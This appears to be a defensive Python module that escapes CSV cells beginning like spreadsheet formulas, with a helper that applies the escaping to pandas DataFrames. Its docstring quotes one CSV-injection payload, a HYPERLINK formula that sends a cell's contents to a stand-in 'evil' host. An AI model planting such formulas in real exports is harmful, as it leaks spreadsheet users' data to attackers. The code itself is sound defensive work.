"""CSV cells a spreadsheet will not run: text that starts like a formula is escaped.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with = + - @ (and,
through some importers, a tab or carriage return) as a formula: an image name such as
`=HYPERLINK("http://evil/?"&A1)` would run when the CSV is opened (OWASP "CSV injection").
Such text gets a leading single quote, which spreadsheets show as text. Numbers stay
numbers: only str values are touched.
"""
from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def escape_formula(value):
    """`value` with a leading ' when it is text that starts like a formula; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def escape_frame(frame):
    """A copy of a pandas DataFrame with escape_formula on every cell of its text columns."""
    from pandas.api.types import is_object_dtype, is_string_dtype

    out = frame.copy()
    for column in out.columns:
        if is_object_dtype(out[column]) or is_string_dtype(out[column]):
            out[column] = out[column].map(escape_formula, na_action="ignore")
    return out
